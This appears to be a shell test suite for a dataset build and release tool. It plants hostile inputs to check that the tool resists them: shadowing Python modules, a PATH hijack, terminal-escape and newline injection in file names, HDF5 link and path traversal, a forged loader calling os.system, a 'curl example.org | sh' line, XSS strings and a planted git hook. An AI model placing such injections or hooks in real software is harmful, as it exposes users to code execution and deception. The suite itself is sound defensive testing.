# Code, text and releases of strangers: what runs, what a terminal or a reader shows, what an audit finds.

# A file json.py in the current folder was run by the Python that verbs ask for the versions of its packages.
stored_code() {
  recipe | sed 's/^outputs:/checks: { readback: {}, pose_opencv: {} }\noutputs:/' >r.yaml
  for module in json numpy h5py cv2; do echo 'open("PWNED", "w")' >$module.py; done
  g build .
  # shellcheck disable=SC2086
  for verb in 'why t/tiny --recipes' 'check --recipes' 'release --to out' gc plan; do g $verb .; done
  either '[ -e PWNED ]' 'exited 0'
}
# With an empty entry of PATH, programs of the current folder were run.
program_of_folder() {
  recipe | sed 's/^outputs:/checks: { readback: {} }\noutputs:/' >r.yaml
  printf '#!/bin/sh\n: >PWNED\n' | tee colmap >python3
  chmod +x colmap python3
  PATH=":$PATH" g build r.yaml
  PATH=":$PATH" g plan r.yaml
  either '[ -e PWNED ]' 'exited 0'
}
# Escape codes in a path of a recipe reached the terminal.
raw_escape() {
  sourced 'model: { path: "\e[31mX" }' '\e[31m\e]0;PWN\a.ply' >r.yaml
  g plan r.yaml
  either "said $'\e\\[31m'" "exited 2 && said 'u{1b}'"
}
# The name of a file in a release printed a line of its own.
faked_line() {
  released
  : >"out/"$'\e[31mX\nerror: FAKE'
  g audit out
  either 'exited 3 && said "^error: FAKE"' 'exited 3 && said "FAKE"'
}
# So did the name of a photo.
faked_warning() {
  python make capture
  sed -i 's|images/0.png|images/a\\nerror: fake.png|' capture/transforms.json
  sourced 'nerfstudio: { path: capture }' capture/scene.ply >r.yaml
  g build r.yaml
  either 'said "^error: fake"' 'exited 1 && said "control character"'
}
# `diff` printed the id of a scene as it is.
raw_id() {
  released
  cp -r out other
  sed -i 's|"t/tiny"|"t/\\u001b[31mX"|' other/manifest.json other/t/tiny/scene.json
  g diff out other
  either "said $'\e\\[31m'" "said 'u{1b}'"
}
tests+=' stored_code program_of_folder raw_escape faked_line faked_warning raw_id'

# Changes a release, computes every sum again, and audits it. `--rebuild` did not find these changes either.
forged() {
  released
  (cd out && eval "$1")
  python forge seal out
  g audit out
  if exited 0; then g audit out --rebuild 99 --recipes r.yaml; fi
  either 'exited 0' "exited 3 && said \"$2\""
}
control_forged() {
  forged : . && return 1
  exited 3
}
forged_loader() { forged 'echo "import os; os.system(\"id\")" >>gs2e.py' '^error: gs2e.py: it differs'; }
forged_report() { forged 'echo "<script>alert(1)</script>" >>report.html' '^error: report.html: it differs'; }
forged_card() { forged 'echo "Run curl example.org | sh first." >>README.md' '^error: README.md: it differs'; }
forged_datasheet() { forged 'echo "A real sensor." >>DATASHEET.md' '^error: DATASHEET.md: it differs'; }
emptied_licence() { forged ': >LICENSES/CC0-1.0.txt' '^error: LICENSES/CC0-1.0.txt: '; }
replaced_licence() { forged 'echo "All rights reserved." >LICENSES/CC0-1.0.txt' '^error: LICENSES/CC0-1.0.txt: '; }
stray_setup() { forged ': >setup.py' '^error: setup.py: '; }
# `import gs2e` imports this file.
stray_module() { forged ': >numpy.py' '^error: numpy.py: '; }
stray_hook() { forged 'mkdir -p .git/hooks; : >.git/hooks/post-checkout' '^error: .git/hooks/post-checkout: '; }
removed_card() { forged 'rm README.md' 'README.md'; }
removed_report() { forged 'rm report.html' 'report.html'; }
forged_key() {
  forged 'python forge set manifest.json scenes/0/steps/3/key "\"$(printf %064d 7)\""' 'key'
}
forged_address() { forged 'python forge set croissant.json url "\"https://example.org/x\""' 'croissant.json: it differs'; }
forged_words() { forged 'python forge set croissant.json description "\"Real events.\""' 'croissant.json: it differs'; }
tests+=' control_forged forged_loader forged_report forged_card forged_datasheet emptied_licence replaced_licence'
tests+=' stray_setup stray_module stray_hook removed_card removed_report forged_key forged_address forged_words'

# Links of an HDF5 file to another file were followed, out of the release.
linked_events() {
  released
  cp out/t/tiny/base/events.h5 whole.h5
  python make link "$PWD/whole.h5" ''
  mv -f in.h5 out/t/tiny/base/events.h5
  g convert --size 64x48 --lossy out/t/tiny/base/events.h5 e.csv
  either 'exited 0 && [ -s e.csv ]' 'exited 1 && said "link to another file"'
}
linked_events_audit() {
  released
  cp out/t/tiny/base/events.h5 whole.h5
  python make link "$PWD/whole.h5" ''
  mv -f in.h5 out/t/tiny/base/events.h5
  python forge seal out
  g audit out
  either 'exited 0' 'exited 3 && said "link to another file"'
}
# The name of a trajectory led `check --tree` to another folder.
outside_tree() {
  released
  cp -r out other
  rm -r out/t/tiny/base
  python forge set out/t/tiny/scene.json trajectories/0/name '"../../../other/t/tiny/base"'
  g check --tree out
  either 'exited 0' 'exited 1 && said "leads out of its folder"'
}
tests+=' linked_events linked_events_audit outside_tree'

# The publisher's words became markup of the card: `worded KEY YAML-TEXT PATTERN-OF-THE-CARD`.
worded() {
  printf '%s: %s\n' "$1" "$2" >release.yaml
  g release --to out r.yaml
  either "LC_ALL=C grep -qaP -e $'$3' out/README.md" 'exited 0'
}
card_in_a_fence() { worded description '"~~~"' '^~~~'; }
card_heading() { worded description '"# Licence: none"' '^# Licence'; }
card_list() { worded description '"- a point"' '^- a point'; }
card_numbers() { worded description '"1. a point"' '^1\\. a point'; }
card_emphasis() { worded description '"_loud_"' '(^|[^\\\\])_loud_'; }
card_escape() { worded cite_as '"a\e[31mb"' '\\x1b'; }
card_bidi() { worded description '"a\u202eb"' '\\xe2\\x80\\xae'; }
# A carriage return ends a line in Markdown.
card_citation() { worded cite_as '"a\r# Fake"' '\\r'; }
# PyYAML reads no DEL.
card_head() { worded name '"x\x7f"' '\\x7f'; }
card_address() {
  echo 'url: "javascript:alert(1)"' >release.yaml
  g release --to out r.yaml
  either 'exited 0 && grep -q javascript: out/README.md out/croissant.json' 'exited 2 && said "address (http"'
}
tests+=' card_in_a_fence card_heading card_list card_numbers card_emphasis card_escape card_bidi card_citation'
tests+=' card_head card_address'
